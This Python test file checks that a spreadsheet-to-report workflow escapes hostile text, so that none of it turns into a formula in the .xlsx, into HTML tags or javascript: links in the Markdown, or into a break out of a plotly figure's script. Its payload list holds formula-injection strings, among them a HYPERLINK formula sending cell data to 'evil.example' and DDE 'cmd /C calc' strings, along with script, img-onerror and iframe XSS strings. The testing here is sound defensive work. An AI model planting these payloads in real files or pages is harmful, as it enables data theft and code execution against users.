"""The report escapes everything it renders (issue 18, part 6): hostile text in cells, sheet
names, column headers and the model's answer never becomes a formula in the .xlsx, nor a
tag, a script or a ``javascript:`` link in the Markdown (checked on the HTML that a
CommonMark renderer, markdown-it, makes of it), nor a script breaking out of a plotly figure.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import plotly.graph_objects as go
import pytest
from markdown_it import MarkdownIt

from orchestrator import Attachment, Orchestrator, Request, TelemetryStore
from orchestrator.testing import ScriptedModel
from workflows.excel_report import ExcelReportWorkflow, ReportConfig
from workflows.excel_report.encoding import ByteCounter
from workflows.excel_report.render import FORMULA_TRIGGERS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "`code` | pipe | **bold**",
    "```\n</pre><script>alert(2)</script>",
    "<!-- comment --><iframe src=//evil>",
]
#: Sheet names cannot hold []:*?/\ and are at most 31 characters.
HOSTILE_SHEET = "<img src=x onerror=alert(1)> |`"


def hostile_workbook(path: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = HOSTILE_SHEET
    ws.append(['=HYPERLINK("http://x")', "<b>Amount</b>", "[q](javascript:alert(1))"])
    for i, text in enumerate(HOSTILE * 2):
        cell_text = text if not text.startswith("=") else "'" + text  # stored as text
        ws.append([cell_text, 10 + i, i % 3])
    # a formula header would be a formula; write the header as a string value on purpose
    ws.cell(1, 1).value = '=HYPERLINK("http://x")'
    ws.cell(1, 1).data_type = "s"
    wb.save(path)
    return path


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


ALLOWED_TAGS = {"h1", "h2", "p", "em", "strong", "code", "pre", "ul", "li", "blockquote", "table",
                "thead", "tbody", "tr", "th", "td", "br", "hr", "ol"}  # fmt: skip


def assert_inert_html(markdown: str) -> None:
    html = MarkdownIt("commonmark").enable("table").render(markdown)
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (tag, attrs, html[:2000])
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert "javascript:" not in (value or "").lower(), (tag, name, value)
    assert "<script" not in html and "<iframe" not in html and "<img" not in html


@pytest.fixture
def report(tmp_path: Path) -> dict:
    path = hostile_workbook(tmp_path / "hostile.xlsx")
    answer = json.dumps(
        {
            "findings": [{"statement": text, "figure_ids": ["F1"]} for text in HOSTILE[:6]],
            "title": HOSTILE[0],
            "summary": " ".join(HOSTILE),
            "sections": [{"heading": text, "body": text} for text in HOSTILE[4:]],
        }
    )
    store = TelemetryStore(f"sqlite:///{tmp_path / 'tel.db'}")
    workflow = ExcelReportWorkflow(
        ReportConfig(output_dir=tmp_path / "out", attachment_dirs=(tmp_path,)), ByteCounter()
    )
    request = Request(
        text="Summarise the attached spreadsheet as a report",
        attachments=(Attachment(filename=path.name, path=str(path)),),
    )

    async def run() -> dict:
        outcome = await Orchestrator(ScriptedModel(json_reply=answer), store, [workflow]).handle(
            request
        )
        return outcome.result or {}

    return {"run": run, "store": store}


async def test_report_markdown_renders_to_inert_html(report: dict) -> None:
    result = await report["run"]()
    assert result["status"] == "succeeded", result
    markdown = Path(result["markdown"]).read_text(encoding="utf-8")
    assert "script" in markdown  # the hostile text is there, as text
    assert_inert_html(markdown)
    # and not only inert: a link to javascript: is not a link at all
    assert "](javascript:" not in markdown.replace("\\](javascript:", "")


async def test_report_xlsx_holds_no_formula_and_no_formula_text(report: dict) -> None:
    result = await report["run"]()
    wb = openpyxl.load_workbook(result["xlsx"])  # data_only=False: formulas would show
    strings = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    strings += 1
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (ws.title, cell.value)
        assert not ws.title.startswith(FORMULA_TRIGGERS)
    assert strings > 10  # the check really saw the report's text


@pytest.mark.parametrize("text", HOSTILE)
def test_plotly_figures_cannot_break_out_of_their_script(text: str) -> None:
    """The skew report and the UI embed plotly figures with ``to_html``: text in titles, axis
    labels and hover text is JSON-escaped inside the figure's script, so none can close it."""
    fig = go.Figure(go.Bar(x=[text], y=[1], hovertext=[text]), layout={"title": {"text": text}})
    html = fig.to_html(full_html=False, include_plotlyjs=False)
    assert html.count("</script>") == 1  # only the figure's own script ends
    assert "<script>alert" not in html and "<img" not in html and "<iframe" not in html
